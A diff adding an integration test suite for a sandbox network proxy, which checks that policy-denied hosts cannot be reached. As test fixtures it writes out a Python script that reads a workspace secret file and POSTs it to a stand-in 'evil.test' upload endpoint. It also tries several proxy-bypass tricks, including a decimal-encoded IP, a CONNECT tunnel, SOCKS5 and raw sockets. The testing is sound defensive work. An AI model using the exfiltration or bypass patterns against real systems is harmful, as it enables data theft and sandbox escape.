@@ -1,0 +1,336 @@
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { type CompiledPolicy, loadPolicy } from '@toolgate/folder-rules';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import {
+  type ConnectionRecord,
+  type NetworkProxy,
+  probeSandbox,
+  sandbox,
+  startNetworkProxy,
+} from '../src/index.js';
+import { type CountingServer, countingServer, type Ran, runAsync } from './networkHelpers.js';
+
+// Issue 26, kernel side: the sandbox gets the network the policy gives it. Real bubblewrap, real curl and
+// python3 inside, real HTTP servers on loopback addresses outside (127.0.0.2 "allowed", 127.0.0.3 "evil"),
+// each counting the connections it saw — a denial is asserted where it matters, at the server.
+
+const haveBwrap = probeSandbox().ok;
+const haveCurl = spawnSync('curl', ['--version']).status === 0;
+const havePython = spawnSync('/usr/bin/python3', ['-c', '0']).status === 0;
+const havePerl = spawnSync('/usr/bin/perl', ['-e', '0']).status === 0;
+it('bubblewrap, curl, python3 and perl are installed', () =>
+  expect({ haveBwrap, haveCurl, havePython, havePerl }).toEqual({
+    haveBwrap: true,
+    haveCurl: true,
+    havePython: true,
+    havePerl: true,
+  }));
+
+let root: string;
+let ws: string;
+let allowed: CountingServer;
+let evil: CountingServer;
+let proxy: NetworkProxy;
+let records: ConnectionRecord[] = [];
+let allowlist: CompiledPolicy;
+const PY = '/usr/bin/python3';
+
+function load(network: string[] | undefined, name: string): CompiledPolicy {
+  const file = join(root, `${name}.yaml`);
+  writeFileSync(
+    file,
+    [
+      'default: read',
+      'rules:',
+      '  - { pattern: "<workspace>/**", access: write }',
+      ...(network ? ['network:', ...network.map((l) => `  ${l}`)] : []),
+      '',
+    ].join('\n'),
+  );
+  return loadPolicy({ dialect: 'toolgate', file });
+}
+
+const ctx = () => ({ cwd: ws, workspace: ws, home: root, env: process.env });
+
+/** Runs a command in the sandbox of `policy` (with this file's proxy when the policy needs one). */
+function inSandbox(policy: CompiledPolicy, command: string[], socket = proxy.socketPath): Promise<Ran> {
+  const box = sandbox({ policy, mode: 'always' });
+  const argv = box.prefix(ctx(), [], box.network === 'proxy' ? { network: { socket } } : {});
+  return runAsync([...argv, ...command]);
+}
+
+const curl = (...args: string[]) => ['curl', '-sS', '--max-time', '10', ...args];
+
+beforeAll(async () => {
+  root = realpathSync.native(mkdtempSync(join(tmpdir(), 'toolgate-network-')));
+  ws = join(root, 'ws');
+  mkdirSync(ws);
+  writeFileSync(join(ws, 'secret.txt'), 'the workspace secret\n');
+  allowed = await countingServer('127.0.0.2', 'allowed-ok');
+  evil = await countingServer('127.0.0.3', 'evil-ok');
+  allowlist = load(
+    [
+      'default: deny',
+      'rules:',
+      '  - { host: allowed.test, action: allow }',
+      '  - { host: 127.0.0.2, action: allow, method: read }',
+    ],
+    'allowlist',
+  );
+  proxy = await startNetworkProxy({
+    policy: allowlist.network!,
+    hosts: { 'allowed.test': '127.0.0.2', 'evil.test': '127.0.0.3' },
+    onConnection: (r) => records.push(r),
+  });
+});
+afterAll(async () => {
+  await proxy?.close();
+  allowed?.server.close();
+  evil?.server.close();
+  rmSync(root, { recursive: true, force: true });
+});
+beforeEach(() => {
+  records = [];
+  allowed.connections = 0;
+  evil.connections = 0;
+  allowed.bodies.length = 0;
+  evil.bodies.length = 0;
+});
+
+describe('no network (default deny, nothing allowed)', () => {
+  it('runs with a network namespace of its own: a host server on loopback sees no connection', async () => {
+    const policy = load(['default: deny'], 'none');
+    const box = sandbox({ policy, mode: 'always' });
+    expect(box.network).toBe('none');
+    const argv = box.prefix(ctx());
+    expect(argv).not.toContain('--share-net');
+    expect(argv).not.toContain('perl');
+    const r = await inSandbox(policy, curl(`http://127.0.0.3:${evil.port}/`));
+    expect(r.code).not.toBe(0);
+    expect(r.stdout).toBe('');
+    expect(evil.connections).toBe(0);
+    // Its own loopback works (twin): a server the command starts on localhost is reachable.
+    const local = await inSandbox(policy, [
+      PY,
+      '-c',
+      'import socket;s=socket.socket();s.bind(("127.0.0.1",0));s.listen();c=socket.create_connection(s.getsockname());print("local-ok")',
+    ]);
+    expect(local.stdout).toBe('local-ok\n');
+  });
+});
+
+describe('allowlist through the proxy', () => {
+  it('a sandbox compiled for it unshares the network and bridges the proxy in', () => {
+    const box = sandbox({ policy: allowlist, mode: 'always' });
+    expect(box.network).toBe('proxy');
+    const argv = box.prefix(ctx(), [], { network: { socket: proxy.socketPath } });
+    expect(argv).not.toContain('--share-net');
+    expect(argv.join(' ')).toContain(`--bind ${proxy.socketPath} ${proxy.socketPath}`);
+    expect(argv.join(' ')).toContain('--setenv HTTPS_PROXY http://127.0.0.1:3128');
+    // Without a running proxy it cannot be built (never silently the host's network).
+    expect(() => box.prefix(ctx())).toThrow(/proxy/);
+  });
+
+  it('an allowed host answers through the proxy; the connection is recorded', async () => {
+    const r = await inSandbox(allowlist, curl(`http://allowed.test:${allowed.port}/`));
+    expect(r).toMatchObject({ code: 0, stdout: 'allowed-ok' });
+    expect(allowed.connections).toBe(1);
+    expect(records).toEqual([
+      expect.objectContaining({
+        host: 'allowed.test',
+        port: allowed.port,
+        method: 'read',
+        via: 'http',
+        action: 'allow',
+        rule: 'allow allowed.test',
+      }),
+    ]);
+  });
+
+  it('a host not in the list gets 403 naming host and rule, and its server sees nothing', async () => {
+    const r = await inSandbox(allowlist, curl('-i', `http://evil.test:${evil.port}/`));
+    expect(r.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden/);
+    expect(r.stdout).toContain(`evil.test:${evil.port}`);
+    expect(r.stdout).toContain('rule: default: deny');
+    expect(evil.connections).toBe(0);
+    expect(records).toEqual([
+      expect.objectContaining({ host: 'evil.test', action: 'deny', rule: 'default: deny', via: 'http' }),
+    ]);
+  });
+
+  it('an IP literal is judged as the IP: the evil server by address is denied, the allowed one by address is allowed for reads only', async () => {
+    const byIp = await inSandbox(
+      allowlist,
+      curl('-o', '/dev/null', '-w', '%{http_code}', `http://127.0.0.3:${evil.port}/`),
+    );
+    expect(byIp.stdout).toBe('403');
+    // 2130706435 is 127.0.0.3 written as one number.
+    const decimal = await inSandbox(
+      allowlist,
+      curl('-o', '/dev/null', '-w', '%{http_code}', `http://2130706435:${evil.port}/`),
+    );
+    expect(decimal.stdout).toBe('403');
+    expect(evil.connections).toBe(0);
+    const read = await inSandbox(allowlist, curl(`http://127.0.0.2:${allowed.port}/`));
+    expect(read.stdout).toBe('allowed-ok');
+    const write = await inSandbox(
+      allowlist,
+      curl('-o', '/dev/null', '-w', '%{http_code}', '-d', 'x=1', `http://127.0.0.2:${allowed.port}/`),
+    );
+    expect(write.stdout).toBe('403');
+    expect(allowed.bodies).toEqual(['']);
+  });
+
+  it('CONNECT (HTTPS) to a denied host is refused; a CONNECT tunnel to an allowed host works (twin)', async () => {
+    const https = await inSandbox(allowlist, curl(`https://evil.test:${evil.port}/`));
+    expect(https.code).toBe(56);
+    expect(https.stderr).toMatch(/CONNECT tunnel failed, response 403/);
+    const tunnelled = await inSandbox(allowlist, curl('--proxytunnel', `http://evil.test:${evil.port}/`));
+    expect(tunnelled.code).not.toBe(0);
+    expect(evil.connections).toBe(0);
+    const ok = await inSandbox(allowlist, curl('--proxytunnel', `http://allowed.test:${allowed.port}/`));
+    expect(ok).toMatchObject({ code: 0, stdout: 'allowed-ok' });
+    expect(records.map((r) => [r.host, r.via, r.method, r.action])).toEqual([
+      ['evil.test', 'connect', 'write', 'deny'],
+      ['evil.test', 'connect', 'write', 'deny'],
+      ['allowed.test', 'connect', 'write', 'allow'],
+    ]);
+  });
+
+  it('SOCKS5: an allowed host connects, a denied one gets "not allowed by ruleset"', async () => {
+    const ok = await inSandbox(
+      allowlist,
+      curl('-x', 'socks5h://127.0.0.1:3128', `http://allowed.test:${allowed.port}/`),
+    );
+    expect(ok).toMatchObject({ code: 0, stdout: 'allowed-ok' });
+    const denied = await inSandbox(
+      allowlist,
+      curl('-x', 'socks5h://127.0.0.1:3128', `http://evil.test:${evil.port}/`),
+    );
+    expect(denied.code).toBe(97);
+    expect(denied.stderr).toMatch(/not allowed|connection to proxy closed|SOCKS/i);
+    expect(evil.connections).toBe(0);
+    expect(records.map((r) => [r.host, r.via, r.action])).toEqual([
+      ['allowed.test', 'socks5', 'allow'],
+      ['evil.test', 'socks5', 'deny'],
+    ]);
+  });
+
+  it('a sandboxed python script that posts the workspace to a host not in the list fails, and the attempt is recorded', async () => {
+    writeFileSync(
+      join(ws, 'x.py'),
+      [
+        'import urllib.request, sys',
+        'data = open("secret.txt", "rb").read()',
+        `req = urllib.request.Request("http://evil.test:${evil.port}/upload", data=data, method="POST")`,
+        'try:',
+        '    urllib.request.urlopen(req, timeout=10)',
+        '    print("sent")',
+        'except Exception as e:',
+        '    print("failed", getattr(e, "code", ""), getattr(e, "read", lambda: b"")().decode().strip())',
+        '    sys.exit(3)',
+        '',
+      ].join('\n'),
+    );
+    const r = await inSandbox(allowlist, [PY, 'x.py']);
+    expect(r.code).toBe(3);
+    expect(r.stdout).toContain('failed 403');
+    expect(r.stdout).toContain('evil.test');
+    expect(evil.connections).toBe(0);
+    expect(evil.bodies).toEqual([]);
+    expect(records).toEqual([
+      expect.objectContaining({
+        host: 'evil.test',
+        port: evil.port,
+        method: 'write',
+        action: 'deny',
+        via: 'http',
+      }),
+    ]);
+  });
+
+  it('direct sockets that ignore the proxy settings have no route: the host loopback and a public address', async () => {
+    const script = (host: string, port: number) =>
+      `import socket\ntry:\n    socket.create_connection(("${host}", ${port}), timeout=5)\n    print("connected")\nexcept OSError as e:\n    print("refused", e.errno)\n`;
+    const loop = await inSandbox(allowlist, [PY, '-c', script('127.0.0.2', allowed.port)]);
+    expect(loop.stdout).toMatch(/^refused \d+/);
+    expect(allowed.connections).toBe(0);
+    const pub = await inSandbox(allowlist, [PY, '-c', script('93.184.215.14', 80)]);
+    expect(pub.stdout).toMatch(/^refused \d+/);
+    // No DNS inside: names resolve only through the proxy.
+    const dns = await inSandbox(allowlist, ['getent', 'hosts', 'example.com']);
+    expect(dns.code).not.toBe(0);
+    expect(records).toEqual([]);
+  });
+});
+
+describe('prompt rules', () => {
+  it('asks once per host, keeps the client waiting for the answer, and denies at the deadline', async () => {
+    const policy = load(['default: deny', 'rules:', '  - { host: "*.test", action: prompt }'], 'prompt');
+    const asked: string[] = [];
+    const yes = await startNetworkProxy({
+      policy: policy.network!,
+      hosts: { 'allowed.test': '127.0.0.2', 'evil.test': '127.0.0.3' },
+      onPrompt: async (q) => {
+        asked.push(`${q.host}:${q.port} ${q.method} ${q.rule}`);
+        await new Promise((r) => setTimeout(r, 300));
+        return q.host === 'allowed.test';
+      },
+      onConnection: (r) => records.push(r),
+    });
+    const silent = await startNetworkProxy({
+      policy: policy.network!,
+      hosts: { 'allowed.test': '127.0.0.2' },
+      onPrompt: () => new Promise<boolean>(() => {}),
+      promptTimeoutMs: 300,
+    });
+    try {
+      const ok = await inSandbox(
+        policy,
+        curl(`http://allowed.test:${allowed.port}/`, `http://allowed.test:${allowed.port}/`),
+        yes.socketPath,
+      );
+      expect(ok).toMatchObject({ code: 0, stdout: 'allowed-okallowed-ok' });
+      const no = await inSandbox(
+        policy,
+        curl('-o', '/dev/null', '-w', '%{http_code}', `http://evil.test:${evil.port}/`),
+        yes.socketPath,
+      );
+      expect(no.stdout).toBe('403');
+      expect(asked).toEqual([
+        `allowed.test:${allowed.port} read prompt *.test`,
+        `evil.test:${evil.port} read prompt *.test`,
+      ]);
+      expect(records.map((r) => [r.host, r.action, r.prompted])).toEqual([
+        ['allowed.test', 'allow', true],
+        ['allowed.test', 'allow', true],
+        ['evil.test', 'deny', true],
+      ]);
+      const late = await inSandbox(
+        policy,
+        curl('-o', '/dev/null', '-w', '%{http_code}', `http://allowed.test:${allowed.port}/`),
+        silent.socketPath,
+      );
+      expect(late.stdout).toBe('403');
+      expect(evil.connections).toBe(0);
+    } finally {
+      await yes.close();
+      await silent.close();
+    }
+  });
+});
+
+describe('unrestricted (no network section): as before', () => {
+  it('shares the host network: a direct connection to a host server works', async () => {
+    const policy = load(undefined, 'open');
+    const box = sandbox({ policy, mode: 'always' });
+    expect(box.network).toBe('shared');
+    expect(box.prefix(ctx())).toContain('--share-net');
+    const r = await inSandbox(policy, curl(`http://127.0.0.3:${evil.port}/`));
+    expect(r).toMatchObject({ code: 0, stdout: 'evil-ok' });
+    expect(evil.connections).toBe(1);
+  });
+});
